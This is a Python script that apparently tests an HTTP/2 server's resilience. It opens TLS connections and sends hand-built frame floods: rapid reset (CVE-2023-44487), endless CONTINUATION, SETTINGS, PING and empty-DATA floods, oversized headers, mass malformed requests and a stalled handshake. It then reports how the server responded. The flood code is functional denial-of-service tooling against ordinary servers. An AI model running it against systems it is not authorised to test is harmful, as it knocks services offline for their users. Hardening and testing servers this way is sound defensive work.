"""HTTP/2 attacker over TLS: runs one flood probe per connection and reports how the server answered.

Each probe opens its own TLS connection (ALPN h2), sends the preface, then attacks with raw frames, and
keeps reading until the server closes the connection or the probe's time runs out. The frames are built
by hand (hyper-h2 refuses to send most of them); header blocks are HPACK-encoded with `hpack`.

Prints one JSON line per probe: {"probe", "closed", "goaway" (error code or null), "resets" (RST_STREAM
frames received), "statuses" (the `:status` of every response head), "seconds"}.

usage: h2_flood_probes.py HOST PORT CAFILE PROBE [PROBE ...]
probes: rapid_reset continuation settings ping empty_data oversized_headers server_resets stalled_handshake
"""
import json
import socket
import ssl
import struct
import sys
import time

import hpack

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

host, port, cafile = sys.argv[1], int(sys.argv[2]), sys.argv[3]


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_block(method="GET", path="/events/flood", extra=()):
    headers = [(":method", method), (":path", path), (":scheme", "https"), (":authority", f"{host}:{port}")]
    return hpack.Encoder().encode(headers + list(extra))


def connect():
    context = ssl.create_default_context(cafile=cafile)
    context.set_alpn_protocols(["h2"])
    sock = context.wrap_socket(socket.create_connection((host, port), timeout=10), server_hostname=host)
    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return sock


class Observer:
    """Reads the server's frames: GOAWAY, RST_STREAM, response heads."""

    def __init__(self):
        self.buffer, self.goaway, self.resets, self.statuses, self.closed = b"", None, 0, [], False
        self.decoder = hpack.Decoder()

    def feed(self, data):
        self.buffer += data
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, payload = self.buffer[3], self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            if kind == GOAWAY and len(payload) >= 8:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif kind == RST_STREAM:
                self.resets += 1
            elif kind == HEADERS:
                self.statuses += [int(value) for name, value in self.decoder.decode(payload) if name == ":status"]


def send_quietly(sock, data, observer):
    """Sends, treating a connection the server already closed as the outcome rather than an error."""
    try:
        sock.sendall(data)
    except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
        observer.closed = True


def drain(sock, observer, seconds, answered=lambda observer: False):
    """Reads until the server closes the connection, `answered` holds, or `seconds` pass."""
    deadline = time.time() + seconds
    sock.settimeout(0.5)
    while not observer.closed and not answered(observer) and time.time() < deadline:
        try:
            data = sock.recv(1 << 16)
        except socket.timeout:
            continue
        except (ConnectionResetError, ssl.SSLError, OSError):
            observer.closed = True
            break
        if not data:
            observer.closed = True
            break
        observer.feed(data)


def attack(probe, sock, observer):
    if probe == "rapid_reset":
        # Open a stream and cancel it at once, thousands of times (CVE-2023-44487).
        burst = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, sid, request_block()) +
                         frame(RST_STREAM, 0, sid, struct.pack(">I", 8)) for sid in range(1, 4001, 2))
        send_quietly(sock, burst, observer)
    elif probe == "continuation":
        # A header block that never ends (CVE-2024-28182).
        block = request_block()
        send_quietly(sock, frame(HEADERS, 0, 1, block[:4]), observer)
        send_quietly(sock, b"".join(frame(CONTINUATION, 0, 1, b"\x40\x01a\x01b") for _ in range(5000)), observer)
    elif probe == "settings":
        # SETTINGS frames each needing an ACK, while never reading the ACKs.
        send_quietly(sock, frame(SETTINGS, 0, 0) * 20000, observer)
    elif probe == "ping":
        send_quietly(sock, b"".join(frame(PING, 0, 0, struct.pack(">Q", n)) for n in range(20000)), observer)
    elif probe == "empty_data":
        # A request body of empty DATA frames that never ends.
        send_quietly(sock, frame(HEADERS, END_HEADERS, 1, request_block("POST", "/publish/flood")), observer)
        send_quietly(sock, frame(DATA, 0, 1) * 20000, observer)
    elif probe == "oversized_headers":
        # One header list far over SETTINGS_MAX_HEADER_LIST_SIZE (16 KiB by default), in CONTINUATIONs.
        block = request_block(extra=[(f"x-pad-{n}", "v" * 1000) for n in range(64)])
        chunks = [block[i:i + 16000] for i in range(0, len(block), 16000)]
        frames = frame(HEADERS, END_STREAM | (END_HEADERS if len(chunks) == 1 else 0), 1, chunks[0])
        for index, chunk in enumerate(chunks[1:], start=1):
            frames += frame(CONTINUATION, END_HEADERS if index == len(chunks) - 1 else 0, 1, chunk)
        send_quietly(sock, frames, observer)
    elif probe == "server_resets":
        # Requests the server must reset (a malformed header block: no :path), over and over.
        bad = hpack.Encoder().encode([(":method", "GET"), (":scheme", "https"), (":authority", host)])
        send_quietly(sock, b"".join(frame(HEADERS, END_HEADERS | END_STREAM, sid, bad) for sid in range(1, 8001, 2)), observer)
    else:
        raise SystemExit(f"unknown probe {probe}")


def run(probe):
    started = time.time()
    observer = Observer()
    if probe == "stalled_handshake":
        # Connects and sends half a ClientHello, then nothing: the handshake timeout must close it.
        sock = socket.create_connection((host, port), timeout=10)
        sock.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
    else:
        sock = connect()
        attack(probe, sock, observer)
    # A single oversized request is answered on its stream; every other probe waits for the close.
    single_request = (lambda o: o.statuses or o.resets) if probe == "oversized_headers" else (lambda o: False)
    drain(sock, observer, 30, single_request)
    sock.close()
    print(json.dumps({"probe": probe, "closed": observer.closed, "goaway": observer.goaway, "resets": observer.resets,
                      "statuses": observer.statuses, "seconds": round(time.time() - started, 2)}), flush=True)


for name in sys.argv[4:]:
    run(name)
